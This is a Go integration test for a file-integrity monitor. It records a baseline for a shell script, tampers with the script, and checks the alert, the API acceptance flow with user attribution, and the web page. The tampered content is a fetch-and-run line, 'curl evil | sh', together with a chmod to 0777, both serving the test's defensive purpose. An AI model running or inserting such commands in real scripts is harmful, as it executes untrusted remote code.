package app

import (
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/tocsin/tocsin/internal/monitor"
)

// TestIntegrityBaseline runs an integrity check on the server: the first
// run records the baseline in the store, a tampered file fails the
// monitor naming the change, the API refuses to accept while nothing
// differs and accepts the change with who and when, and the monitor turns
// green. The page shows the baseline and who accepted it.
func TestIntegrityBaseline(t *testing.T) {
	for _, driver := range []string{"sqlite", "postgres"} {
		t.Run(driver, func(t *testing.T) {
			dir := t.TempDir()
			script := filepath.Join(dir, "ship-logs.sh")
			if err := os.WriteFile(script, []byte("#!/bin/sh\nrsync /var/log/txn nas:/txn\n"), 0o755); err != nil {
				t.Fatal(err)
			}
			path := filepath.Join(dir, "tocsin.yaml")
			writeConfig(t, path, `server:
  listen: 127.0.0.1:0
`+storageYAML(t, driver)+`
monitors:
  - id: ship-script
    interval: 200ms
    integrity: {path: `+script+`}
`)
			r := start(t, path)
			a := r.app
			waitState(t, a, "ship-script", monitor.StatusUp)
			bs, err := a.store.Baselines(t.Context(), "ship-script")
			if err != nil || len(bs) != 1 || bs[0].AcceptedBy != "" || bs[0].Values["mode"] != "0755" {
				t.Fatalf("baselines after the first run = %+v, %v", bs, err)
			}
			token, cookie := signIn(t, a.store)
			accept := func() int {
				req, _ := http.NewRequest("POST", r.url+"/api/v1/monitors/ship-script/baseline/accept", nil)
				req.Header.Set("Authorization", "Bearer "+token)
				resp, err := http.DefaultClient.Do(req)
				if err != nil {
					t.Fatal(err)
				}
				resp.Body.Close()
				return resp.StatusCode
			}
			if code := accept(); code != http.StatusConflict {
				t.Errorf("accept with nothing changed: %d, want 409", code)
			}

			if err := os.WriteFile(script, []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.Chmod(script, 0o777); err != nil {
				t.Fatal(err)
			}
			waitState(t, a, "ship-script", monitor.StatusDown)
			v, _ := a.eng.View("ship-script")
			for _, want := range []string{script + ": content changed (sha256 ", "mode 0755 → 0777", " UTC"} {
				if v.Last == nil || !strings.Contains(v.Last.Reason, want) {
					t.Errorf("down reason lacks %q: %+v", want, v.Last)
				}
			}
			page := signedIn(t, r.url, "/monitors/ship-script", true, "", cookie)
			for _, want := range []string{`id="baseline"`, `data-drift="changed"`, `id="accept-baseline"`} {
				if !strings.Contains(page, want) {
					t.Errorf("monitor page lacks %s", want)
				}
			}

			if code := accept(); code != http.StatusOK {
				t.Fatalf("accept: %d, want 200", code)
			}
			waitState(t, a, "ship-script", monitor.StatusUp)
			bs, _ = a.store.Baselines(t.Context(), "ship-script")
			if len(bs) != 1 || bs[0].AcceptedBy != "ada" || bs[0].Observed != nil || bs[0].Values["mode"] != "0777" || time.Since(bs[0].AcceptedAt) > time.Minute {
				t.Errorf("baselines after acceptance = %+v", bs)
			}
			page = signedIn(t, r.url, "/monitors/ship-script", true, "", cookie)
			if !strings.Contains(page, "by ada") || strings.Contains(page, `id="accept-baseline"`) {
				t.Errorf("monitor page after acceptance does not show who accepted it, or still offers to accept")
			}
		})
	}
}
